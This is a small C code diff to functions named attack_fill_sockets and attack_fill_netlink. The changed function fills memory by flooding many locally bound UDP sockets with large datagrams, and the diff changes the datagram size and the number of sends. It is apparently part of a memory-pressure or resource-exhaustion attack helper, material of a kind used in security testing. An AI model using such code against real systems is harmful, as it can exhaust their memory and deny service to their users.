@@ -177,7 +177,7 @@ long attack_fill_netlink(uint32_t count) {
 }
 
 long attack_fill_sockets(uint32_t count) {
-    static char bytes[16000];
+    static char bytes[60000];
     static int sockets[1024];
     if (count > sizeof sockets / sizeof *sockets) return -EINVAL;
     int sender = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
@@ -190,7 +190,7 @@ long attack_fill_sockets(uint32_t count) {
         if (fd < 0 || bind(fd, (struct sockaddr *)&address, size) < 0) return -errno;
         if (getsockname(fd, (struct sockaddr *)&address, &size) < 0) return -errno;
         setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &most, sizeof most);
-        for (int sent = 0; sent < 30; sent++) {
+        for (int sent = 0; sent < 4; sent++) {
             sendto(sender, bytes, sizeof bytes, 0, (struct sockaddr *)&address, size);
         }
     }
